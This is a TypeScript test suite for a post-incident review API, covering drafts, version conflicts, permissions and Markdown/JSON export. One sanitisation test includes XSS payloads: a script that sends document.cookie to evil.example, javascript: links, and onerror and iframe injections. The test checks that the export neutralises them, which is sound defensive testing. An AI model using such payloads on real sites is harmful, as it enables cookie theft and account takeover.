import { env } from 'cloudflare:test';
import { HtmlRenderer, Parser } from 'commonmark';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { getReview, saveReview } from '../../worker/directory/reviews';
import { planEdit } from '../../worker/review/edit';
import type { Review } from '../../schema/review';
import { addSubscription } from '../../worker/directory/push-subscriptions';
import {
  controlClock,
  fireAlarm,
  openOn,
  schedule,
  serviceWithPolicy,
  untilEscalated,
} from '../escalation/setup';
import { subscriber } from '../push/fixtures';
import { ADMIN, api, command, createUser, json, openIncident, type TestUser } from '../helpers';

let ana: TestUser;
let ben: TestUser;
let vic: TestUser;
let clock: ReturnType<typeof controlClock>;

beforeAll(async () => {
  ana = await createUser('Ana');
  ben = await createUser('Ben');
  vic = await createUser('Vic', 'viewer');
});
beforeEach(() => {
  clock = controlClock();
});
afterEach(() => clock.restore());

const MIN = 60_000;
const start = (as: TestUser, id: string) =>
  api(`/api/incidents/${id}/review`, { method: 'POST', headers: as.auth });
const read = (as: TestUser, id: string) => api(`/api/incidents/${id}/review`, { headers: as.auth });
const edit = (as: TestUser, id: string, body: unknown) =>
  api(`/api/incidents/${id}/review`, { method: 'PUT', body, headers: as.auth });

async function resolvedIncidentWithReview(): Promise<{ id: string; review: Review }> {
  const inc = await openIncident(ana, { title: 'Checkout is down' });
  await command(ana, inc.id, 'resolve');
  return { id: inc.id, review: await json<Review>(start(ana, inc.id), 201) };
}

describe('post-incident review', () => {
  it('pre-fills from the incident: MTTA 4 min and MTTR 30 min exactly, key moments, participants with roles', async () => {
    const service = await serviceWithPolicy([
      { delayMinutes: 5, targets: [{ type: 'user', id: ana.id }] },
    ]);
    const t = clock.now();
    const inc = await openOn(service, 'Checkout is down');
    await untilEscalated(inc.id, /Escalated to level 1/);
    clock.advanceMinutes(2);
    await command(ben, inc.id, 'roles', { role: 'incident_commander', userId: ben.id });
    clock.advanceMinutes(2);
    await command(ana, inc.id, 'acknowledge');
    clock.advanceMinutes(10);
    await command(ben, inc.id, 'status-updates', { text: 'Rolled back the deploy' });
    clock.advanceMinutes(16);
    await command(ana, inc.id, 'resolve');

    const review = await json<Review>(start(ben, inc.id), 201);
    expect(review).toMatchObject({
      status: 'draft',
      version: 1,
      createdBy: { id: ben.id, name: 'Ben' },
    });
    expect(review.facts).toMatchObject({
      number: inc.number,
      severity: 'critical',
      createdAt: t,
      acknowledgedAt: t + 4 * MIN,
      resolvedAt: t + 30 * MIN,
      timeToAcknowledge: { ms: 4 * MIN, text: '4 min' },
      timeToResolve: { ms: 30 * MIN, text: '30 min' },
      escalationLevel: 1,
    });
    expect(review.facts.keyMoments.map((m) => [m.kind, m.offsetMs])).toEqual([
      ['triggered', 0],
      ['escalated', 0],
      // "Could not page Ana: no device registered" is why acknowledging took 4 minutes: it stays a key moment.
      ['page_failed', 0],
      ['acknowledged', 4 * MIN],
      ['status_update', 14 * MIN],
      ['resolved', 30 * MIN],
    ]);
    expect(review.facts.participants).toEqual([
      { id: ben.id, name: 'Ben', roles: ['incident_commander'] },
      { id: 'usr_admin', name: 'Admin', roles: ['opened'] },
      { id: ana.id, name: 'Ana', roles: ['paged', 'acknowledged', 'resolved'] },
    ]);
    expect(review.sections).toEqual({
      summary: '',
      customerImpact: '',
      rootCause: '',
      contributingFactors: '',
      wentWell: '',
      wentBadly: '',
    });
  });

  it('keeps every paging decision that explains a delay: a skipped level, and a page that never got through however often it was retried', async () => {
    const later = new Date(Date.now() + 30 * 86_400_000).toISOString().slice(0, 16);
    const nights = await schedule('Night shift', [
      { id: 'l1', name: 'primary', users: [ana.id], rotation: { type: 'daily' }, start: later },
    ]);
    const cat = await createUser('Cat');
    // A phone whose push service never answers: each attempt fails before an answer and is retried with backoff.
    // (A real push service's host, so the outbound check lets it through; worker tests have no network beyond loopback.)
    const keys = await subscriber();
    await addSubscription(env.DB, {
      id: `psb_${crypto.randomUUID().slice(0, 8)}`,
      userId: cat.id,
      label: 'Pixel',
      endpoint: `https://fcm.googleapis.com/fcm/send/cat-${crypto.randomUUID()}`,
      p256dh: keys.p256dh,
      auth: keys.auth,
      now: clock.now(),
    });
    const service = await serviceWithPolicy([
      { delayMinutes: 30, targets: [{ type: 'schedule', id: nights }] },
      { delayMinutes: 30, targets: [{ type: 'user', id: cat.id }] },
    ]);
    const inc = await openOn(service, 'Checkout is down');
    await untilEscalated(inc.id, /Escalated to level 2: Cat/);
    for (let i = 0; i < 4; i++) {
      clock.advanceMinutes(1);
      await fireAlarm(inc.id);
    }
    clock.advanceMinutes(1);
    await command(cat, inc.id, 'acknowledge');
    await command(cat, inc.id, 'resolve');

    const review = await json<Review>(start(cat, inc.id), 201);
    expect(review.facts.keyMoments.map((m) => [m.kind, m.text])).toEqual([
      ['triggered', expect.stringContaining('Checkout is down')],
      ['escalation_skipped', 'Skipped level 1: Night shift has nobody on shift'],
      ['escalated', 'Escalated to level 2: Cat'],
      ['page_failed', 'Paged Cat on Pixel: push service unreachable, gave up (attempt 5)'],
      ['acknowledged', 'Acknowledged by Cat'],
      ['resolved', 'Resolved by Cat'],
    ]);
  });

  it('returns the existing review when started twice, without a second draft', async () => {
    const { id, review } = await resolvedIncidentWithReview();
    await edit(ana, id, { version: 1, sections: { summary: 'Kept' } });
    const again = await json<Review>(start(ben, id), 200);
    expect(again).toMatchObject({
      incidentId: review.incidentId,
      version: 2,
      sections: { summary: 'Kept' },
      createdBy: { id: ana.id },
    });
  });

  it('refreshes the pre-filled facts when started again after the incident moved on', async () => {
    const inc = await openIncident(ana);
    const early = await json<Review>(start(ana, inc.id), 201);
    expect(early.facts.timeToResolve).toBeNull();
    clock.advanceMinutes(12);
    await command(ana, inc.id, 'resolve');
    const later = await json<Review>(start(ana, inc.id), 200);
    expect(later.facts.timeToResolve).toEqual({ ms: 12 * MIN, text: '12 min' });
  });

  it('suggests a review for a resolved critical or error incident that has none, and only then', async () => {
    const critical = await openIncident(ana, { severity: 'critical' });
    const warning = await openIncident(ana, { severity: 'warning' });
    const open = await openIncident(ana, { severity: 'error' });
    await command(ana, critical.id, 'resolve');
    await command(ana, warning.id, 'resolve');
    const suggested = await read(vic, critical.id);
    expect(suggested.status).toBe(404);
    expect(suggested.headers.get('content-type')).toBe('application/problem+json');
    expect(await suggested.json()).toMatchObject({ code: 'not-found', suggested: true });
    expect(await json(read(vic, warning.id), 404)).toMatchObject({ suggested: false });
    expect(await json(read(vic, open.id), 404)).toMatchObject({ suggested: false });
    expect(await json(read(vic, 'inc_nope'), 404)).toMatchObject({
      detail: 'No incident inc_nope.',
    });
  });

  it('saves an edit, bumps the version and records who changed what and when', async () => {
    const { id } = await resolvedIncidentWithReview();
    clock.advanceMinutes(1);
    const saved = await json<Review>(
      edit(ben, id, {
        version: 1,
        sections: { summary: 'Disk filled up', rootCause: 'Log rotation off' },
      }),
      200,
    );
    expect(saved).toMatchObject({
      version: 2,
      updatedBy: { id: ben.id },
      updatedAt: clock.now(),
      sections: { summary: 'Disk filled up', rootCause: 'Log rotation off', wentWell: '' },
    });
    expect(saved.edits.map((e) => [e.version, e.by.name, e.changes.map((c) => c.field)])).toEqual([
      [1, 'Ana', ['review']],
      [2, 'Ben', ['sections.summary', 'sections.rootCause']],
    ]);
    expect(saved.edits[1]?.at).toBe(clock.now());
  });

  it('answers a stale edit with 409 and the current text, and never overwrites the other person', async () => {
    const { id } = await resolvedIncidentWithReview();
    expect(
      (await edit(ana, id, { version: 1, sections: { summary: 'Ana’s summary' } })).status,
    ).toBe(200);
    const stale = await edit(ben, id, { version: 1, sections: { summary: 'Ben’s summary' } });
    expect(stale.status).toBe(409);
    expect(stale.headers.get('content-type')).toBe('application/problem+json');
    const problem = await json<{ code: string; current: Review }>(stale);
    expect(problem.code).toBe('conflict');
    expect(problem.current).toMatchObject({ version: 2, sections: { summary: 'Ana’s summary' } });
    expect(await json<Review>(read(vic, id), 200)).toMatchObject({
      version: 2,
      sections: { summary: 'Ana’s summary' },
    });
  });

  it('lets exactly one of two simultaneous edits of the same version win', async () => {
    const { id } = await resolvedIncidentWithReview();
    const results = await Promise.all(
      [ana, ben].map((who) =>
        edit(who, id, {
          version: 1,
          sections: { summary: who.name },
          actionItems: [{ title: `${who.name}’s item` }],
        }),
      ),
    );
    expect(results.map((r) => r.status).sort()).toEqual([200, 409]);
    const final = await json<Review>(read(vic, id), 200);
    expect(final.version).toBe(2);
    expect(final.actionItems.map((i) => i.title)).toEqual([`${final.sections.summary}’s item`]);
  });

  it('moves draft → in review → published, refuses to skip review, freezes published text but not its action items', async () => {
    const { id } = await resolvedIncidentWithReview();
    const skip = await edit(ana, id, { version: 1, status: 'published' });
    expect(skip.status).toBe(409);
    expect((await json<{ detail: string }>(skip)).detail).toMatch(
      /draft review can move to in review, not straight to published/,
    );
    const inReview = await json<Review>(
      edit(ana, id, {
        version: 1,
        status: 'in_review',
        actionItems: [{ title: 'Alert on disk at 80%' }],
      }),
      200,
    );
    const published = await json<Review>(
      edit(ben, id, { version: inReview.version, status: 'published' }),
      200,
    );
    expect(published).toMatchObject({ status: 'published', publishedAt: clock.now() });
    const frozen = await edit(ana, id, {
      version: published.version,
      sections: { summary: 'late change' },
    });
    expect(frozen.status).toBe(409);
    expect((await json<{ detail: string }>(frozen)).detail).toMatch(
      /published review’s text is frozen/,
    );
    const item = published.actionItems[0]!;
    const ticked = await json<Review>(
      edit(ana, id, {
        version: published.version,
        actionItems: [{ id: item.id, title: item.title, done: true }],
      }),
      200,
    );
    expect(ticked.actionItems[0]).toMatchObject({ id: item.id, done: true, doneAt: clock.now() });
    expect(ticked.edits.at(-1)?.changes).toEqual([
      { field: 'actionItems', detail: 'completed “Alert on disk at 80%”' },
    ]);
    const reopened = await json<Review>(
      edit(ana, id, {
        version: ticked.version,
        status: 'draft',
        sections: { summary: 'corrected' },
      }),
      200,
    );
    expect(reopened).toMatchObject({
      status: 'draft',
      publishedAt: null,
      sections: { summary: 'corrected' },
    });
  });

  it('treats an edit that changes nothing as a no-op that keeps the version', async () => {
    const { id } = await resolvedIncidentWithReview();
    const same = await json<Review>(
      edit(ana, id, { version: 1, sections: { summary: '' }, actionItems: [] }),
      200,
    );
    expect(same.version).toBe(1);
    expect(same.edits).toHaveLength(1);
  });

  it('rejects unknown owners, unknown item ids and impossible due dates with a 400 naming the field', async () => {
    const { id } = await resolvedIncidentWithReview();
    const owner = await edit(ana, id, {
      version: 1,
      actionItems: [{ title: 'x', ownerId: 'usr_ghost' }],
    });
    expect(owner.status).toBe(400);
    expect((await json<{ detail: string }>(owner)).detail).toMatch(
      /actionItems\.0\.ownerId: no user usr_ghost/,
    );
    const item = await edit(ana, id, {
      version: 1,
      actionItems: [{ id: 'act_ghost', title: 'x' }],
    });
    expect((await json<{ detail: string }>(item, 400)).detail).toMatch(/no action item act_ghost/);
    const due = await edit(ana, id, {
      version: 1,
      actionItems: [{ title: 'x', dueDate: '2025-02-30' }],
    });
    expect((await json<{ detail: string }>(due, 400)).detail).toMatch(
      /dueDate: not a calendar date/,
    );
  });

  it('exports a Markdown document with every section, the figures, key moments, participants and action items', async () => {
    const inc = await openIncident(ana, { title: 'Checkout is down' });
    clock.advanceMinutes(4);
    await command(ben, inc.id, 'acknowledge');
    clock.advanceMinutes(26);
    await command(ben, inc.id, 'resolve');
    await start(ana, inc.id);
    await edit(ana, inc.id, {
      version: 1,
      sections: {
        summary: 'Checkout returned 500s.',
        customerImpact: 'No orders for 30 minutes.',
        rootCause: 'Disk full | logs',
        contributingFactors: 'No alert on disk.',
        wentWell: 'Fast rollback.',
      },
      actionItems: [
        { title: 'Alert on disk at 80%', ownerId: ben.id, dueDate: '2999-01-31' },
        { title: 'Rotate logs daily', done: true },
      ],
    });
    const res = await api(`/api/incidents/${inc.id}/review.md`, { headers: vic.auth });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/markdown; charset=utf-8');
    const md = await res.text();
    expect(md).toContain(`# Post-incident review: #${inc.number} Checkout is down`);
    for (const [heading, text] of [
      ['Summary', 'Checkout returned 500s.'],
      ['Customer impact', 'No orders for 30 minutes.'],
      ['Root cause', 'Disk full | logs'],
      ['Contributing factors', 'No alert on disk.'],
      ['What went well', 'Fast rollback.'],
      ['What went badly', '_Not written yet._'],
    ])
      expect(md).toContain(`## ${heading}\n\n${text}\n`);
    expect(md).toContain('| Time to acknowledge (MTTA) | 4 min |');
    expect(md).toContain('| Time to resolve (MTTR) | 30 min |');
    expect(md).toContain(
      '## Action items\n\n- [ ] Alert on disk at 80% (owner: Ben, due 2999-01-31)\n- [x] Rotate logs daily\n',
    );
    expect(md).toMatch(/\| \+4 min \| Acknowledged \| Acknowledged by Ben \|/);
    expect(md).toContain('- Ben: acknowledged, resolved');
    expect(md).toContain('## Key moments');
    expect(md).toContain('## Participants');
  });

  it('exports Markdown that renders no raw HTML and no javascript: link, from sections, titles, names and action items alike', async () => {
    const inc = await openIncident(ana, { title: '<img src=x onerror=alert(1)> checkout' });
    await command(ana, inc.id, 'resolve');
    await start(ana, inc.id);
    await edit(ana, inc.id, {
      version: 1,
      sections: {
        summary:
          'The <script>fetch("https://evil.example/?c="+document.cookie)</script> page broke. See [runbook](https://wiki.example/runbook).',
        rootCause:
          '[click me](javascript:alert(document.cookie)) and [again](JaVaScRiPt\\:alert(1)) and <a href="javascript:alert(2)">here</a>\n\n[ref]: javascript:alert(3)\n\n`<b>as code</b>`',
      },
      actionItems: [{ title: '[pwn](javascript:alert(4)) <iframe src=//evil.example>' }],
    });
    const md = await (
      await api(`/api/incidents/${inc.id}/review.md`, { headers: vic.auth })
    ).text();
    const html = new HtmlRenderer({ safe: false }).render(new Parser().parse(md));
    expect(html).not.toMatch(/<(script|img|iframe|a href="javascript)/i);
    expect(html).not.toMatch(/href="\s*javascript:/i);
    expect(html).toContain('<a href="https://wiki.example/runbook">runbook</a>');
    expect(html).toContain('<code>&lt;b&gt;as code&lt;/b&gt;</code>');
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt; checkout');
  });

  it('exports the same review as a JSON document', async () => {
    const { id } = await resolvedIncidentWithReview();
    const res = await api(`/api/incidents/${id}/review.json`, { headers: vic.auth });
    expect(res.headers.get('content-disposition')).toMatch(/filename="incident-\d+-review\.json"/);
    expect(await json<Review>(res, 200)).toEqual(await json<Review>(read(vic, id), 200));
  });

  it('lets a viewer read a review and its exports but not start or edit one', async () => {
    const { id } = await resolvedIncidentWithReview();
    expect((await read(vic, id)).status).toBe(200);
    expect((await api(`/api/incidents/${id}/review.md`, { headers: vic.auth })).status).toBe(200);
    expect((await start(vic, id)).status).toBe(403);
    const denied = await edit(vic, id, { version: 1, sections: { summary: 'viewer wrote this' } });
    expect(denied.status).toBe(403);
    expect((await json<Review>(read(vic, id), 200)).sections.summary).toBe('');
    expect((await api(`/api/incidents/${id}/review`)).status).toBe(401);
    expect(
      (await api(`/api/incidents/${id}/review`, { method: 'POST', headers: ADMIN })).status,
    ).toBe(200);
  });

  it('refuses an edit body over 64 KB with 413 before touching the review', async () => {
    const { id } = await resolvedIncidentWithReview();
    const res = await edit(ana, id, {
      version: 1,
      sections: {
        summary: 'x'.repeat(15_000),
        rootCause: 'y'.repeat(15_000),
        wentWell: 'z'.repeat(15_000),
        wentBadly: 'w'.repeat(15_000),
        customerImpact: 'v'.repeat(10_000),
      },
    });
    expect(res.status).toBe(413);
    expect((await json<Review>(read(vic, id), 200)).version).toBe(1);
  });

  it('documents the review, action item and report routes in the OpenAPI description', async () => {
    const doc = await json<{ paths: Record<string, Record<string, unknown>> }>(
      api('/api/openapi.json'),
      200,
    );
    expect(Object.keys(doc.paths['/api/incidents/{id}/review'] ?? {}).sort()).toEqual([
      'get',
      'post',
      'put',
    ]);
    for (const path of [
      '/api/incidents/{id}/review.md',
      '/api/incidents/{id}/review.json',
      '/api/action-items',
      '/api/reports',
      '/api/reports/incidents.csv',
    ]) {
      expect(doc.paths[path]?.get).toBeDefined();
    }
  });

  it('writes nothing at all, items and history included, when the version moved between read and write', async () => {
    const { id, review } = await resolvedIncidentWithReview();
    let n = 0;
    const ctx = { now: clock.now(), newId: () => `act_test_${n++}`, users: {} };
    const first = planEdit(
      review,
      { version: 1, sections: { summary: 'first' }, actionItems: [{ title: 'first item' }] },
      ctx,
    );
    const second = planEdit(
      review,
      { version: 1, sections: { summary: 'second' }, actionItems: [{ title: 'second item' }] },
      ctx,
    );
    expect(await saveReview(env.DB, id, 1, first, ana.id, clock.now())).toBe(true);
    expect(await saveReview(env.DB, id, 1, second, ben.id, clock.now())).toBe(false);
    const stored = await getReview(env.DB, id);
    expect(stored).toMatchObject({
      version: 2,
      sections: { summary: 'first' },
      updatedBy: { id: ana.id },
    });
    expect(stored?.actionItems.map((i) => i.title)).toEqual(['first item']);
    expect(stored?.edits.map((e) => e.by.id)).toEqual([ana.id, ana.id]);
  });
});
